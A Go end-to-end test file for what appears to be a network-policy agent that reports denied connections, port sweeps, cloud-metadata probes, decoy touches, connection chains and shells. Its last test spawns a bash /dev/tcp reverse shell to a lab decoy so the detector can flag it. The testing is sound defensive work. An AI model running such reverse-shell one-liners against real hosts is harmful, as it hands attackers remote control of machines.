package e2e_test

import (
	"net/netip"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/demarc/demarc/agent/detect"
	"github.com/demarc/demarc/test/netlab"
	"github.com/demarc/demarc/test/probe"
)

// is matches signals of a kind, of a workload, with a peer; an invalid place is any.
func is(kind detect.SignalKind, workload string, to netlab.Place) func(detect.Signal) bool {
	return func(s detect.Signal) bool {
		return s.Kind == kind && s.Workload == workload && (!to.Address.IsValid() || s.Peer.Address == to.Address) &&
			(to.Port == 0 || s.Peer.Port == to.Port)
	}
}

// metadata is where clouds tell their machines secrets.
var metadata = netip.MustParseAddr("169.254.169.254")

const decoyCrossings = `  - {name: trap, from: [workload/web], to: [network/decoy4], ports: [tcp/7001, udp/7001, tcp/7002], decoy: true}
`

// Denied contacts are told with the process; each address and port once.
func TestSignalsOfDenials(t *testing.T) {
	w := enforced(t)
	w.p.Socket("t", "tcp4")
	for range 20 {
		w.p.Refused(connect("t", w.peer.At4(7001)), "EPERM")
	}
	s := w.node.AwaitSignal("an edge", is(detect.Edge, "web", w.peer.At4(7001)))
	if s.PID == 0 || s.Comm == "" || s.StartTime == 0 || s.Cgroup != "" || s.Cause != "denied: no-crossing" {
		t.Errorf("edge: %s", netlab.DescribeSignal(s))
	}
	for port := uint16(1); port <= 60; port++ {
		w.p.Refused(connect("t", netlab.Place{Address: w.peer.IP4, Port: port}), "EPERM")
	}
	steps := w.node.AwaitSignal("50 ports", func(s detect.Signal) bool {
		return s.Kind == detect.Ports && s.Workload == "web" && s.Distinct >= 40
	})
	if steps.PID == 0 || steps.Distinct > 70 {
		t.Errorf("ports: %s", netlab.DescribeSignal(steps))
	}
	edges := map[uint16]int{}
	for _, s := range w.node.Signals() {
		if s.Kind == detect.Edge {
			edges[s.Peer.Port]++
		}
	}
	if edges[7001] != 1 || len(edges) < 55 {
		t.Errorf("%d edges, to 7001 %d", len(edges), edges[7001])
	}
	w.p.Refused(raw("r", unix.AF_INET, unix.IPPROTO_ICMP), "EPERM")
	if s := w.node.AwaitSignal("a raw socket", is(detect.Raw, "web", anywhere)); s.PID != steps.PID {
		t.Errorf("raw: %s", netlab.DescribeSignal(s))
	}
	t.Run("K02", func(t *testing.T) { // the kernel refuses what no crossing declares, and says so
		w.p.Refused(connect("t", netlab.Place{Address: metadata, Port: 80}), "EPERM")
		s := w.node.AwaitSignal("metadata", is(detect.Metadata, "web", netlab.Place{Address: metadata, Port: 80}))
		if s.PID != steps.PID || s.Cause != "denied: no-crossing" {
			t.Errorf("metadata: %s", netlab.DescribeSignal(s))
		}
	})
}

// A decoy is reported with who touched it, and lets nothing through.
func TestDecoy(t *testing.T) {
	w := newWorld(t)
	w.node.Apply(policyText(1, decoyCrossings, webDecoy))
	w.serveDecoy(w.decoy)
	w.control()
	for _, kind := range []string{"tcp4", "udp4"} {
		w.p.Socket(kind, kind)
		w.p.Refused(connect(kind, w.decoy.At4(7001)), "EPERM")
	}
	s := w.node.AwaitSignal("a touch", is(detect.Decoy, "web", w.decoy.At4(7001)))
	if s.PID == 0 || s.Crossing != "trap" {
		t.Errorf("decoy: %s", netlab.DescribeSignal(s))
	}
	// Past connect(2) it is no different.
	w.p.Socket("u", "udp4")
	w.p.Refused(send("u", w.decoy.At4(7001)), "EPERM")
	w.nothing(func(p netlab.Packet) bool {
		return p.Dst.Port() == 7001 && p.Dst.Addr() == w.decoy.IP4 && p.Proto != unix.IPPROTO_ICMP
	})
	w.p.Socket("fast", "tcp4")
	w.p.Refused(connect("fast", w.decoy.At4(7002)), "EPERM") // although somebody there could prove himself
	w.node.AwaitSignal("a touch of 7002", is(detect.Decoy, "web", w.decoy.At4(7002)))
}

// What connections and processes do is told with the process, also what the policy
// allows.
func TestSignalsOfTasks(t *testing.T) {
	w := newWorld(t)
	w.node.Apply(policyText(1, webDecoy,
		"  - {name: back, from: [workload/decoy], to: [workload/web], ports: [tcp/7000], log: all, purpose: test}\n",
		"  - {name: nobody, from: [workload/web], to: [workload/decoy], ports: [tcp/7003], log: all, purpose: test}\n"))
	server := w.serveDecoy(w.decoy)
	if s := w.node.AwaitSignal("a listener", is(detect.Listen, "decoy", anywhere)); s.PID == 0 || s.Local.Port < 7000 || s.Local.Port > 7002 {
		t.Errorf("listener: %s", netlab.DescribeSignal(s))
	}
	web := w.web.Probe(w.node.Cgroup("/lab/web"))
	web.Must(probe.Call{Op: "serve", Address: ":7000"})

	w.p.Socket("t", "tcp4")
	w.p.Connect("t", w.decoy.At4(7000).String())
	w.p.Echoed("t", "hello")
	contact := w.node.AwaitSignal("a contact", is(detect.Contact, "web", w.decoy.At4(7000)))
	if contact.PID == 0 || contact.StartTime == 0 || contact.Hops != 0 {
		t.Errorf("contact: %s", netlab.DescribeSignal(contact))
	}
	// Another program that goes there is told of, too.
	w.web.Start(w.node.Cgroup("/lab/web"), netlab.Command{Path: "/bin/bash", Args: []string{"-c", "exec 3<>/dev/tcp/" + w.decoy.IP4.String() + "/7000"}})
	w.node.AwaitSignal("a contact of another program", func(s detect.Signal) bool {
		return is(detect.Contact, "web", w.decoy.At4(7000))(s) && s.Comm == "bash" && s.PID != contact.PID
	})
	w.p.Socket("n", "tcp4")
	w.p.Refused(connect("n", w.decoy.At4(7003)), "ECONNREFUSED")
	if s := w.node.AwaitSignal("a failure", is(detect.Failed, "web", w.decoy.At4(7003))); s.Cause != "refused" || s.PID != contact.PID {
		t.Errorf("failure: %s", netlab.DescribeSignal(s))
	}

	// The decoy's server holds web's connection, and opens one itself.
	server.Socket("b", "tcp4")
	server.Connect("b", w.web.At4(7000).String())
	server.Echoed("b", "so it was accepted")
	chain := w.node.AwaitSignal("a chain", is(detect.Chain, "decoy", w.web.At4(7000)))
	if chain.Hops != 1 || chain.OriginWorkload != "web" || chain.PID == 0 {
		t.Errorf("chain: %s", netlab.DescribeSignal(chain))
	}
	// web's server holds a connection that goes back to one.
	web.Socket("b", "tcp4")
	web.Connect("b", w.decoy.At4(7002).String())
	if s := w.node.AwaitSignal("a longer chain", is(detect.Chain, "web", w.decoy.At4(7002))); s.Hops != 2 || s.OriginWorkload != "decoy" {
		t.Errorf("chain of two: %s", netlab.DescribeSignal(s))
	}

	shell := w.web.Start(w.node.Cgroup("/lab/web"), netlab.Command{Path: "/bin/bash",
		Args: []string{"-c", "exec 3<>/dev/tcp/" + w.decoy.IP4.String() + "/7000; exec /bin/sh <&3"}})
	s := w.node.AwaitSignal("a shell", is(detect.Shell, "web", w.decoy.At4(7000)))
	if s.Exe != "/bin/sh" || s.PID != uint32(shell.PID()) {
		t.Errorf("shell: %s", netlab.DescribeSignal(s))
	}
	shell.Kill()
}
